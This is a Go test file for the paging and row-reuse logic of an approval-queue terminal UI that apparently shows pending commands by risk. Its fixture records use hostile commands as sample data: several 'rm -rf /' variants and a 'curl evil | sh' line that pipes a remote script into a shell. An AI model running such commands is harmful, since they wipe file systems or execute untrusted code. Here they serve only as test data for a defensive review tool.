package tui

import (
	"fmt"
	"strings"
	"testing"

	"github.com/approve-tui/approve-tui/model"
	"github.com/approve-tui/approve-tui/storage"
)

// fullRec is a pending record for the fullLoad tests: risk, expiry
// (seconds), command.
func fullRec(id string, risk model.RiskLevel, exp float64, command string) *storage.Record {
	r := &storage.Record{EffectiveRisk: risk, PayloadSHA256: "sha-of-" + command}
	r.ApprovalID, r.Command, r.ExpiresAt = id, command, model.F64(exp)
	return r
}

func fullRows(recs ...*storage.Record) []row {
	rows := make([]row, len(recs))
	for i, r := range recs {
		rows[i] = makeRow(r)
	}
	return rows
}

func ids(rows []row) string {
	var b []string
	for _, r := range rows {
		b = append(b, r.rec.ApprovalID)
	}
	return strings.Join(b, " ")
}

// A long list's first page is followed by the rows of the last full load
// that rank after it, less the page's own; rows whose payload is the one
// already shown are reused, a rewritten one is made again.
func TestFullLoadTailAndRows(t *testing.T) {
	var recs []*storage.Record
	for i := range 8 {
		recs = append(recs, fullRec(fmt.Sprintf("row%05d", i), model.RiskHigh, float64(100+i), fmt.Sprintf("rm -rf /%d", i)))
	}
	f := newFullLoad(fullRows(recs...), true)

	// A new row at the top; the page reads the first three.
	top := fullRec("new00001", model.RiskHigh, 50, "rm -rf /new")
	page := []*storage.Record{top, recs[0], recs[1]}
	if got := ids(f.after(page)); got != "row00002 row00003 row00004 row00005 row00006 row00007" {
		t.Fatalf("tail after the page: %s", got)
	}
	// A page row whose rank changed (its payload rewritten in place, now
	// of unknown risk, the most urgent) is in the old tail too: it is left
	// out there.
	moved := fullRec("row00006", model.RiskUnknown, 10, "rm -rf / --changed")
	page = []*storage.Record{moved, recs[0], recs[1]}
	if got := ids(f.after(page)); got != "row00002 row00003 row00004 row00005 row00007" {
		t.Fatalf("tail with a moved row: %s", got)
	}
	// A provisional list (soonest first): every row is compared.
	p := newFullLoad(fullRows(recs[3], recs[0], recs[5], recs[1]), false)
	if got := ids(p.after([]*storage.Record{recs[0], recs[1]})); got != "row00003 row00005" {
		t.Fatalf("tail of a provisional list: %s", got)
	}

	// The same payload: the row made at the full load, with the new record.
	again := fullRec("row00003", model.RiskHigh, 103, "rm -rf /3")
	if r := f.row(again); r.rec != again || r.command != f.rows[3].command || r.search != f.rows[3].search {
		t.Fatalf("same payload: %+v", r)
	}
	// Another payload under the same id: made again from it.
	rewritten := fullRec("row00003", model.RiskHigh, 103, "curl evil | sh")
	if r := f.row(rewritten); r.command != "curl evil | sh" || !strings.Contains(r.search, "curl evil") {
		t.Fatalf("rewritten payload: %+v", r)
	}
}
